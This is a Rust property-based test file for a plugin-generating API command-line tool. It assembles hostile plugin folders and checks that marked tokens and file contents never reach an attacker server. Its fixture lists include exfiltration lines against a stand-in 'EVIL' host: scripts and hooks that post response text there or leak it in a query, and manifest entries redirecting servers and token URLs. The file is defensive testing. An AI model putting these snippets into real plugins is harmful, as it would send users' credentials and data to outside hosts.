//! Folders put together from hostile pieces: manifests, facts, scripts and hooks. The only question is whether a marked
//! secret, a marked file or a request has left by any way.

use std::fs;
use std::sync::OnceLock;

use proptest::prelude::*;

use crate::environment::{Files, TestEnvironment, files_below, finish};
use crate::server::{Answer, Server, redirect};

/// The credential of the account in use, another account's, another plugin's, and what is in the file.
const TOKEN: &str = "tok-marked-5f2a9c41";
const LIVE: &str = "tok-live-0b7d33e8aa";
const OTHER: &str = "tok-other-91ce7f20d";
const FILE: &str = "file-marked-c1d84e77";

const DOCUMENT: &str = "openapi: 3.0.3
info: {title: Notes, version: '1'}
servers: [{url: 'https://OWN'}]
security: [{key: []}]
paths:
  /notes:
    get:
      parameters: [{name: q, in: query, schema: {type: string}}]
      responses: {'200': {description: ok}}
    post:
      requestBody:
        content:
          multipart/form-data:
            schema: {type: object, properties: {file: {type: string, format: binary}, note: {type: string}}}
      responses: {'200': {description: ok}}
components: {securitySchemes: {key: {type: http, scheme: bearer}}}
";

/// Lines at the top of the manifest.
const TOP: &[&str] =
    &["", "profile = \"live\"", "profile = \"default\"", "profile = \"../x\"", "name = \"other\""];

/// Tables at its end.
const TABLES: &[&str] = &[
    "",
    "[profiles.default]\nserver = \"EVIL\"",
    "[profiles.live]\nserver = \"EVIL\"",
    "[profiles.default]\nserver = \"2\"",
    "[profiles.default.headers]\nx-forwarded-host = \"EVIL\"",
    "[profiles.default]\nserver = \"OWN@EVIL\"",
    "[login.key]\nclient_id = \"x\"\ntoken_url = \"EVIL/token\"",
    "[[servers]]\nurl = \"EVIL\"",
    "[[operation_servers]]\nurl = \"EVIL\"",
    "[[servers]]\nurl = \"EVIL/{r}\"\ntemplate = \"EVIL/{r}\"\n[servers.variables.r]\ndefault = \"x\"",
    "[auth.other]\ntype = \"bearer\"",
    "[auth.h]\ntype = \"api-key\"\nin = \"header\"\nname = \"Host\"",
];

/// The first server in the manifest.
const FIRST: &[&str] = &["OWN", "OWN", "EVIL", "OWN:80", "http://localhost"];

/// Where a script sends.
const TARGETS: &[&str] = &[
    "/notes",
    "/notes",
    "EVIL/notes",
    "OWN/notes",
    "/go?to=EVIL/notes",
    "/../notes",
    "//EVIL",
    "OWN@EVIL/notes",
    "EVIL?x=/notes",
];

/// What it does with the request.
const STEPS: &[&str] = &[
    "r.multipart(#{file: PATH});",
    "flags.file = PATH; r.multipart(flags);",
    "r.multipart(flags);",
    "r.json(#{file: PATH, a: flags.note});",
    "r.body(PATH);",
    "r.body();",
    "r.header(\"x-a\", EVILTEXT);",
    "try { r.header(\"host\", EVILTEXT); } catch { }",
    "try { r.header(\"authorization\", \"x\"); } catch { }",
    "r.credential(credentials::scheme(\"key\"));",
    "try { r.credential(credentials::scheme(\"other\")); } catch { }",
    "r.query(\"to\", EVILTEXT);",
    "let a = r.try_send(); print(a.text);",
    "let a = r.try_send(); print(a.headers); http::post(\"EVIL\").body(a.text).send();",
    "try { let a = r.send(); http::get(\"/notes\").query(\"leak\", a.text).send(); } catch (e) { print(e.message); }",
    "try { http::get(\"EVIL\").send(); } catch (e) { print(e); }",
    "retry::on([500], 1, || http::get(\"EVIL\").send());",
];

const METHODS: &[&str] = &["get", "post", "put", "delete", "head"];

const HOOKS: &[&str] = &[
    "",
    "fn before_send(request) { request.multipart(#{file: PATH}); }",
    "fn before_send(request) { http::get(\"EVIL\").try_send(); }",
    "fn after_response(response) { print(response.text); http::post(\"EVIL\").body(response.text).try_send() }",
    "fn on_error(error) { print(error); http::get(\"EVIL\").try_send() }",
];

/// What a person types.
const LINES: &[&str] = &[
    "notes notes list",
    "notes notes create --note x",
    "notes notes create --note PATH",
    "notes notes list -v",
    "notes notes list --profile live",
    "notes notes list --server-var r=y",
    "notes notes list --server 1",
    "notes notes list --error-format json",
    "notes notes list --dry-run",
    "notes notes list --curl",
    "notes notes create --mock",
    "auth test notes",
    "auth status notes",
    "check notes",
    "commands notes",
    "plugins info notes",
    "notes notes list --help",
];

/// The folder and the home of somebody who has generated the plugin, made once.
fn made() -> &'static [Files; 2] {
    static MADE: OnceLock<[Files; 2]> = OnceLock::new();
    MADE.get_or_init(|| {
        let environment = TestEnvironment::generated("notes", DOCUMENT);
        [files_below(environment.plugins()), files_below(&environment.root().join("home"))]
    })
}

fn pick(list: &'static [&'static str]) -> impl Strategy<Value = &'static str> {
    prop::sample::select(list)
}

/// One folder, and what is typed.
#[derive(Clone, Debug)]
struct Attack {
    top: &'static str,
    tables: Vec<&'static str>,
    first: &'static str,
    script: String,
    hooks: &'static str,
    poisoned: bool,
    line: &'static str,
    /// The folder was copied: nothing was ever agreed to.
    copied: bool,
}

fn attacks() -> impl Strategy<Value = Attack> {
    let calls = (pick(METHODS), pick(TARGETS), prop::collection::vec(pick(STEPS), 0..4));
    let script = calls.prop_map(|(method, target, steps)| {
        format!("let r = http::{method}(\"{target}\"); {} r.send()", steps.join(" "))
    });
    let tables = prop::collection::vec(pick(TABLES), 0..3);
    (pick(TOP), tables, pick(FIRST), script, pick(HOOKS), any::<bool>(), pick(LINES), any::<bool>()).prop_map(
        |(top, tables, first, script, hooks, poisoned, line, copied)| Attack {
            top,
            tables,
            first,
            script,
            hooks,
            poisoned,
            line,
            copied,
        },
    )
}

/// Echoes what it was asked, leads elsewhere where it is told to, and knows nothing else.
fn own() -> Server {
    Server::new(|asked| match asked.target.split_once("to=") {
        Some((_, to)) => redirect(302, &to.replace("%3A", ":").replace("%2F", "/")),
        None => {
            let headers: Vec<String> =
                asked.headers.iter().map(|(name, value)| format!("{name}: {value}")).collect();
            Answer::Whole {
                status: 200,
                headers: vec![("content-type".to_owned(), "text/plain".to_owned())],
                body: format!("{}\n{}", headers.join("\n"), asked.text()).into_bytes(),
            }
        }
    })
}

fn try_it(attack: &Attack, own: &Server, evil: &Server) -> Result<(), TestCaseError> {
    let environment = TestEnvironment::new()
        .with("APICLI_NOTES_TOKEN", TOKEN)
        .with("APICLI_NOTES_LIVE_TOKEN", LIVE)
        .with("APICLI_OTHER_TOKEN", OTHER);
    let path = environment.write("marked.txt", FILE).display().to_string();
    let fill = |text: &str| {
        text.replace("EVILTEXT", &format!("\"{}\"", evil.url()))
            .replace("EVIL", evil.url())
            .replace("https://OWN", own.url())
            .replace("OWN", own.url())
            .replace("PATH", &format!("{path:?}"))
    };
    let places = [environment.plugins().to_owned(), environment.root().join("home")];
    for (files, to) in made().iter().zip(places).take(if attack.copied { 1 } else { 2 }) {
        for (file, content) in files {
            let file = to.join(file);
            fs::create_dir_all(file.parent().unwrap()).unwrap();
            let text = String::from_utf8_lossy(content).replace("https://own", own.url());
            fs::write(file, text.replace("https://OWN", own.url())).unwrap();
        }
    }
    let manifest = environment.plugin("notes/plugin.toml");
    let text = fs::read_to_string(&manifest).unwrap();
    let text =
        text.replacen(&format!("url = \"{}\"", own.url()), &format!("url = \"{}\"", fill(attack.first)), 1);
    let tables: Vec<String> = attack.tables.iter().map(|table| fill(table)).collect();
    fs::write(&manifest, format!("{}\n{text}\n{}\n", attack.top, tables.join("\n"))).unwrap();
    let script = fill(&attack.script);
    fs::write(
        environment.plugin("notes/notes.rhai"),
        format!("fn list(flags) {{ {script} }}\nfn create(flags) {{ {script} }}\n"),
    )
    .unwrap();
    if !attack.hooks.is_empty() {
        fs::write(environment.plugin("notes/hooks.rhai"), fill(attack.hooks)).unwrap();
    }
    if attack.poisoned {
        let facts = environment.plugin("notes/.generated/facts.jsonl");
        let text = fs::read_to_string(&facts).unwrap();
        let note = r#"{"name":"note","wire":"note""#;
        let poison =
            format!(r#"{{"name":"note","wire":"note","type":"file","required":true,"enum":[{path:?}]"#);
        fs::write(facts, text.replace(note, &poison)).unwrap();
    }
    let before = own.asked().len();
    let mut command = environment.command();
    // A text is a text: the path of the file is typed as the value of what is not a file.
    command.args(attack.line.split(' ').map(|word| if word == "PATH" { path.as_str() } else { word }));
    let ran = finish(command, "");
    let shown = format!("{}{}", ran.stdout_text(), ran.stderr);
    for secret in [TOKEN, LIVE, OTHER] {
        prop_assert!(!shown.contains(secret), "a secret is shown: {ran}");
    }
    // What is typed for a file by poisoned facts is typed, though as something else: it may be sent, to the API alone.
    let typed = attack.line.contains("PATH") && attack.poisoned;
    prop_assert!(typed || !shown.contains(FILE), "a file is shown: {ran}");
    for asked in own.asked().iter().skip(before) {
        let all = format!("{asked:?}{}", asked.text());
        prop_assert!(!all.contains(OTHER) && (typed || !all.contains(FILE)), "{all}");
        let live = attack.line.contains("--profile live");
        prop_assert!(live || !all.contains(LIVE), "another account's: {all}");
    }
    for asked in evil.asked() {
        // Where the API itself leads elsewhere, a bare request follows; nothing of this side is in it.
        let all = format!("{asked:?}{}", asked.text());
        let bare = asked.method == "GET" || asked.method == "HEAD";
        let led = attack.script.contains("to=") || attack.script.contains("\"to\"");
        prop_assert!(led && bare && asked.body.is_empty(), "a request has left: {all}\n{ran}");
        for mark in [TOKEN, LIVE, OTHER, FILE, "x-a", "x-forwarded-host"] {
            prop_assert!(!all.contains(mark), "{mark} has left: {all}");
        }
    }
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 150, failure_persistence: None, max_shrink_iters: 60, ..ProptestConfig::default() })]

    #[test]
    fn nothing_leaves_by_what_a_folder_says(attack in attacks()) {
        let (own, evil) = (own(), Server::json(200, "{\"stolen\":true}"));
        try_it(&attack, &own, &evil)?;
    }
}

/// The generator makes what works as well: else nothing would leave for other reasons.
#[test]
fn the_innocent_twin_is_sent() {
    let (own, evil) = (own(), Server::json(200, "{}"));
    let innocent = Attack {
        top: "",
        tables: Vec::new(),
        first: "OWN",
        script: "let r = http::get(\"/notes\"); r.send()".to_owned(),
        hooks: "",
        poisoned: false,
        line: "notes notes list",
        copied: false,
    };
    try_it(&innocent, &own, &evil).unwrap();
    assert_eq!(own.only().header("authorization"), Some(format!("Bearer {TOKEN}").as_str()));
}
